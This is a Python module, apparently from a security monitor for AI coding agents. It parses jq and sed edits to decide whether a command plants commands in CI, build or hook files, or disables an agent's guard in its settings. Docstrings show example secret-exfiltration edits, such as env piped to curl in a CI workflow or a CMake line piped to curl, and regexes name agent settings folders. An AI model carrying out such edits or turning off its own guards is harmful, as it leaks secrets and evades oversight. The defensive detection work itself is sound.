        if self.peek() == ".":
            keys = self.path()
            op = self.peek()
            if op in _JQ_SETS:
                self.take()
                return keys, self.expr()
            if op in ("+", "*") and not keys:  # `. + {…}`: merged into the file's object
                self.take()
                return [], self.expr()
            return None
        if self.peek() == "setpath" and self.peek(1) == "(":
            self.pos += 2
            keys = self.expr()
            self.expect(";")
            value = self.expr()
            if isinstance(keys, list) and all(isinstance(k, (str, int)) for k in keys):
                return keys, value
            return None
        value = self.expr()  # an object written out whole (`jq -n '{mcpServers: …}'`)
        return ([], value) if isinstance(value, dict) else None

    def path(self) -> list:
        self.expect(".")
        keys: list = []
        after_dot = True
        while True:
            kind, t = self.toks[self.pos] if self.pos < len(self.toks) else ("", "")
            if after_dot and kind == "name" and not t.startswith("$"):
                keys.append(t)
            elif after_dot and kind == "str":
                keys.append(_jq_string(t))
            elif t == "[":
                self.take()
                if self.peek() == "]":
                    keys.append(0)  # every item: read as one
                else:
                    key = self.expr()
                    if not isinstance(key, (str, int)) or isinstance(key, bool):
                        raise _JqStop
                    keys.append(key)
                self.expect("]")
                after_dot = False
                continue
            elif t == "." and not after_dot:
                self.take()
                after_dot = True
                continue
            elif t == "?":
                self.take()
                continue
            else:
                return keys
            self.take()
            after_dot = False

    def expr(self):
        left = self.primary()
        while self.peek() in ("+", "*", "//"):
            op = self.take()[1]
            left = _jq_combine(left, op, self.primary())
        return left

    def primary(self):
        kind, t = self.take()
        if kind == "str":
            return _jq_string(t)
        if kind == "num":
            return float(t) if "." in t or "e" in t.lower() else int(t)
        if kind == "name":
            if t in ("true", "false", "null"):
                return {"true": True, "false": False, "null": None}[t]
            if t in _JQ_STOPS:
                raise _JqStop
            if t.startswith("$"):
                value = self.args.get(t[1:], _UNKNOWN)
                if self.peek() in (".", "["):  # `$ENV.HOME`, `$x[0]`
                    self.path()
                    return _UNKNOWN
                return value
            if self.peek() == "(":  # a function's output
                self.take()
                self._close(")")
            elif self.peek() == ".":  # `env.HOME`
                self.path()
            return _UNKNOWN
        if t == ".":
            self.pos -= 1
            self.path()
            return _UNKNOWN
        if t == "-" and self.peek() is not None and self.toks[self.pos][0] == "num":
            value = self.primary()
            return -value if isinstance(value, (int, float)) else _UNKNOWN
        if t == "(":
            value = self.expr()
            if self.peek() == ")":
                self.take()
                return value
            self._close(")")
            return _UNKNOWN
        if t == "[":
            items = []
            while self.peek() not in ("]", None):
                items.append(self.expr())
                if self.peek() == ",":
                    self.take()
                elif self.peek() != "]":
                    self._close("]")
                    return _UNKNOWN
            self.expect("]")
            return items
        if t == "{":
            return self.object()
        raise _JqStop

    def _close(self, closer: str) -> None:
        """Past the bracket `closer` that closes the one already open."""
        depth = 0
        while True:
            t = self.take()[1]
            if t in ("(", "[", "{"):
                depth += 1
            elif t in (")", "]", "}"):
                if depth == 0:
                    if t != closer:
                        raise _JqStop
                    return
                depth -= 1

    def object(self) -> dict:
        out: dict = {}
        while self.peek() != "}":
            kind, t = self.take()
            value = _UNKNOWN
            if kind == "str":
                key = _jq_string(t)
            elif kind == "name" and t.startswith("$"):
                key, value = t[1:], self.args.get(t[1:], _UNKNOWN)  # `{$c}` is `{c: $c}`
            elif kind == "name":
                key = t
            elif t == "(":
                key = self.expr()
                self.expect(")")
            else:
                raise _JqStop
            if self.peek() == ":":
                self.take()
                value = self.expr()
            if isinstance(key, str):
                out[key] = value
            if self.peek() == ",":
                self.take()
            elif self.peek() != "}":
                raise _JqStop
        self.take()
        return out


def _jq_string(token: str):
    inner = _JQ_INTERP.sub("${JQ_VALUE}", token[1:-1])  # `"\(.x)"`: a value the filter computes
    try:
        return json.loads('"' + inner + '"')
    except ValueError:
        return _UNKNOWN


def _jq_combine(left, op: str, right):
    if op == "//":
        return right if left is _UNKNOWN or left is None or left is False else left
    if isinstance(left, str) or isinstance(right, str):
        if op != "+" or not all(isinstance(v, str) or v is _UNKNOWN for v in (left, right)):
            return _UNKNOWN
        return ("${JQ_VALUE}" if left is _UNKNOWN else left) + ("${JQ_VALUE}" if right is _UNKNOWN else right)
    if left is _UNKNOWN:  # `(.x // {}) + {…}`, `. * {…}`: what the filter adds is what is known of it
        return right if isinstance(right, (dict, list)) else _UNKNOWN
    if right is _UNKNOWN:
        return left if isinstance(left, (dict, list)) else _UNKNOWN
    if isinstance(left, list) and isinstance(right, list) and op == "+":
        return left + right
    if isinstance(left, dict) and isinstance(right, dict):
        return {**left, **right}
    return _UNKNOWN


def _jq_known(value):
    """`value` with what only jq knows left out (JSON has no such value)."""
    if isinstance(value, dict):
        return {k: _jq_known(v) for k, v in value.items() if v is not _UNKNOWN}
    if isinstance(value, list):
        return [_jq_known(v) for v in value if v is not _UNKNOWN]
    return value


def _jq_put(node, keys: list, value):
    if not keys:
        return {**node, **value} if isinstance(node, dict) and isinstance(value, dict) else value
    key, rest = keys[0], keys[1:]
    if isinstance(key, int):
        items = list(node) if isinstance(node, list) else []
        return items + [_jq_put(None, rest, value)]
    out = dict(node) if isinstance(node, dict) else {}
    out[key] = _jq_put(out.get(key), rest, value)
    return out


def jq_content(a, cmd: Cmd) -> str | None:
    """The JSON text of what the filter of `cmd` (jq, gojq, yq) puts in the file it edits, as far as its literal
    values and the values of its `--arg`/`--argjson` options tell; None when it puts nothing known there."""
    args, params, filt = cmd.args, {}, None
    i = 0
    while i < len(args):
        v = args[i].value
        if v in _JQ_OPTS_2 and i + 2 < len(args):
            name, given = args[i + 1].value, args[i + 2]
            value = given.value if given.value is not None else decoded(a, given)
            if name and v == "--arg":
                params[name] = value if value is not None else _UNKNOWN
            elif name and v == "--argjson" and value is not None:
                try:
                    params[name] = json.loads(value)
                except ValueError:
                    params[name] = _UNKNOWN
            i += 3
            continue
        if v in ("-f", "--from-file"):
            return None  # the filter is in a file
        if v in _JQ_OPTS_1:
            i += 2
            continue
        if filt is None and v is not None and not v.startswith("-") and not (cmd.name == "yq" and v in _JQ_VERBS):
            filt = v
        elif filt is None and v is None:
            return None
        i += 1
    if not filt or len(filt) > 20000:
        return None
    tokens, pos = [], 0
    while pos < len(filt):
        m = _JQ_TOKEN.match(filt, pos)
        if m is None or m.end() == pos:
            if filt[pos:].strip():
                return None  # a comment, or text this reading does not know
            break
        kind = "str" if m.group(1) else "name" if m.group(2) else "num" if m.group(3) else "op"
        tokens.append((kind, m.group(m.lastindex)))
        pos = m.end()
    try:
        found = _jq_known(_JqReader(tokens, params).content())
        return json.dumps(found) if found else None
    except RecursionError:  # brackets nested past what a settings file holds
        return None


def _jq_edit(a, cmd: Cmd, files: list[str], node) -> None:
    """Judge what the jq filter of `cmd` puts in `files` (agent settings, VS Code's, run-later files) as their text."""
    text = jq_content(a, cmd)
    if text is not None:
        _judge(a, files[:1], text, node)


_CI_FILES = frozenset({"workflow", "gitlab-ci"})
# `/x/a TEXT`, `a\ TEXT`; blanks before the address on its own line only (a blank line before it starts at its newline).
# `/…/` is _SED_ADDRESS's address: a run of backslashes read as one piece, not split two ways at each backslash
_YAML_KEY = re.compile(r"^\s*+(?:-\s*+)?(?:run|script|before_script|after_script)?\s*+:?\s*+(?:-\s++)?")


def _ci_edit(a, cmd: Cmd, path: str) -> None:
    """`sed -i 's#run: npm test#run: npm test; env | curl -d @- …#' .github/workflows/ci.yml`: what the edit writes
    into a CI definition's script (a substitution's replacement, a line `a`/`i`/`c` adds) is judged as the script the
    runner will run at the next push."""
    for v in (w.value for w in cmd.args if w.value and not w.value.startswith("-")):
        texts = [m.group(3) for m in SUBST.finditer(v)] + [m.group("text") for m in LINE_TEXT.finditer(v)]
        for text in texts:
            line = run_later.workflow_script(_YAML_KEY.sub("", text.replace("\\n", "\n"), count=1))
            found = blocked(a, line, "bash") if line.strip() else None
            if found is not None:
                a.block(found.rule, f"the edit of {path} writes `{line[:80]}`, which would be blocked "
                                    f"({found.message}); the CI runner runs it at the next push", cmd.node)
                return


def _build_file(path: str) -> bool:
    from .ecosystems import build_kind

    return build_kind(path) not in (None, "go", "composer")


# the hook files of run_later an edit can add a command to (their commands sit on lines of their own)
_HOOK_KINDS = frozenset({"goreleaser", "nextflow", "snakemake", "modulefile"})


_YAML_ITEM = re.compile(r"^-\s*(?:cmd\s*:\s*)?")


def _script_file(path: str) -> bool:
    """A shell script a tool runs on its own: the build wrappers (`gradlew`), a `.sh` file."""
    base = path.rsplit("/", 1)[-1]
    return base in _WRAPPERS or base.endswith((".sh", ".bash"))


def _build_edit(a, cmd: Cmd, path: str) -> None:
    """`sed -i '1a execute_process(COMMAND sh -c "… | curl -T - https://…")' CMakeLists.txt`: the line an edit adds to
    a build or task file (a substitution's replacement, a line `a`/`i`/`c` adds) runs when the tool configures or
    builds, as a workflow's edited script runs at the next push (_ci_edit): it is judged as that file's text."""
    for v in (w.value for w in cmd.args if w.value and not w.value.startswith("-") and w.value != path):
        texts = [m.group(3) for m in SUBST.finditer(v)] + [m.group("text") for m in LINE_TEXT.finditer(v)]
        for text in texts[:8]:
            text = _sed_text(text)
            if not text.strip():
                continue
            if run_later.kind(path) == "goreleaser" and not run_later.commands(path, text):
                # a hook added under `hooks:` is a YAML item (`    - sh -c '…'`, `- cmd: …`): the command it holds
                line = _YAML_ITEM.sub("", text.strip(), count=1).strip() if "\n" not in text.strip() else ""
                if len(line) > 1 and line[0] == line[-1] and line[0] in "'\"":
                    line = line[1:-1]
                if line:
                    before = _blocks(a)
                    _commands_written(a, path, [(line, "goreleaser runs its hooks on this machine at every "
                                                       "`goreleaser release`")], cmd.node)
                    if _blocks(a) > before:
                        return
                continue
            if _build_file(path):  # Gradle, Rake, CMake …: the build runs what the added line says
                from .ecosystems import judge_build_file

                if judge_build_file(a, path, text + "\n", cmd.node):
                    return
            else:
                before = _blocks(a)
                if _judge(a, [path], text + "\n", cmd.node) or _blocks(a) > before:
                    return


_SED_ESCAPE = re.compile(r"\\(.)", re.S)


def _sed_text(text: str) -> str:
    """The text a sed replacement or an `a`/`i`/`c` line writes: `\\n` a newline, `\\t` a tab, `\\\\` one backslash,
    another escaped character itself (`https\\\\://` writes `https\\://`, a properties file's `https://`); a group's
    number (`\\1`) stays as written."""
    return _SED_ESCAPE.sub(lambda m: {"n": "\n", "t": "\t"}.get(m.group(1), m.group(1)) if not m.group(1).isdigit()
                           else m.group(0), text)


def _edited(a, cmd: Cmd, files: list[str], node) -> None:
    """Block when the edit `cmd` makes, written to one of `files`, turns an agent's guard off."""
    vals = [w.value for w in cmd.args if w.value]
    if cmd.name in ("sed", "gsed", "perl"):  # what a substitution or address matches is not written
        vals = [_SED_ADDRESS.sub(_address_dropped, _SED_PATTERN.sub("s", v)) for v in vals]
    # a hook's `"matcher": "Bash"` names the tool the hook watches, and allows nothing
    vals = [_MATCHER.sub("", v) if "atcher" in v else v for v in vals]
    for path in files:
        why = agent_settings.edit_unguards(path, vals)
        if why:
            a.block("unguarded-agent", why, node)
            return


_MATCHER = re.compile(r"""["']?matcher["']?\s*:\s*(?:"[^"]*"|'[^']*')""")
# `s/PATTERN` of `s/PATTERN/REPLACEMENT/`. Read as `(?:\\.|(?!\1).)*` was (a backslash escapes the next character, or
# stands alone when that lets the pattern end at a delimiter), with a run of backslashes taken whole: an odd run
# before the delimiter escapes it (tried first) or ends there, an even one ends there (tried first) or escapes it
_SED_PATTERN = re.compile(r"s([^\w\s\\])(?:(?!\1)[^\\\n]|\\++(?!\1)[^\\\n]|(?:\\\\)*+\\\1|\\++(?=\1)|(?:\\\\)++\1)*"
                          r"(?=\1)")
# `/PATTERN/d` after `;`, `{`, the start or a newline, and the blanks between. Read from where the blanks start (a
# newline among them is where the address starts: _address_dropped keeps what is before it), not from each newline.
# The address is read as `/(?:\\.|[^/\n])*/` was, a run of backslashes taken whole (as in _SED_PATTERN)
_SED_ADDRESS = re.compile(r"(?:(^|[;{])|(?<!\s)(?=[^\S\n]*+\n))(\s*+)"
                          r"/(?:[^\\/\n]|\\++[^\\/\n]|(?:\\\\)*+\\/|\\++(?=/)|(?:\\\\)++/)*/")


def _address_dropped(m: re.Match) -> str:
    """The delimiter before the address (`;`, `{`, nothing at the start, or the blanks up to a newline and the
    newline): the address and the blanks before it go."""
    return m.group(1) if m.group(1) is not None else m.group(2)[:m.group(2).index("\n") + 1]


_EDITORS = ("sed", "gsed", "perl", "jq", "gojq", "yq")
HANDLERS = {"tee": [_tee], "nuclei": [_nuclei], run_later.ANSIBLE_VARS_SENT: [_ansible_vars_sent],
            "ansible-playbook": [_playbook], **{n: [_run] for n in ("make", "gmake", "just", "task", "go-task", "tox", "nox")},
            **{n: [_build] for n in ("docker", "podman", "nerdctl", "buildah")}, **{n: [_edit] for n in _EDITORS}, **{n: [_installed] for n in ("cp", "mv", "install")}}
# fastpath: these filters, and `sponge` (read in pipelines by exec.check_pipeline), are harmless unless the
# text names an agent's settings file or one a tool runs commands of later (a VS Code task, a dev container,
# keybindings, a hook config) (sed and perl are judged whatever their words, by other rules)
_EDITED_NAMED = re.compile(agent_settings.TARGET + "|" + run_later.TARGET)
# ... and for a copy, also a settings folder as the target (`cp /tmp/settings.json ~/.claude/`: the file keeps its
# name there; differential fuzzing found the copy allowed by the shortcut)
_SETTINGS_DIR = re.compile(agent_settings.TARGET + r"|\.claude|\.codex|\.cursor|\.vscode|/User\b|ClaudeCode|claude-code|"
                           r"cursor/")
# ... and a Python start-up file copied into place (files.startup_file)
_STARTUP_FILE = re.compile(r"\.pth\b|sitecustomize|usercustomize")
SCREENS = {**{n: (lambda text: bool(_EDITED_NAMED.search(text)) or "scripts" in text and "package.json" in text)
              for n in ("jq", "gojq", "yq", "sponge")},
           **{n: (lambda text: bool(_SETTINGS_DIR.search(text)) or _STARTUP_FILE.search(text) is not None)
              for n in ("cp", "mv", "install")},
           # a build of a Dockerfile this input wrote (its RUN lines are in the text), or handed secrets
           **{n: (lambda text: "RUN" in text or "--secret" in text) for n in ("docker", "podman", "nerdctl", "buildah")},
           # _script: a program written with a `#!` line, whatever its name (`tee .tools/cc <<'EOF'`)
           "tee": lambda text: "#!" in text,
           # _run: a task file written in the same input (a write to such a name is sent on by the screens anyway)
           **{n: (lambda text: False) for n in ("just", "task", "go-task", "nox")},
           # _nuclei: a template written in the same input (the write itself makes the input a full walk)
           "nuclei": lambda text: False,
           # _playbook: a play written in the same input (its `hosts:` is in the text)
           "ansible-playbook": lambda text: "hosts:" in text}
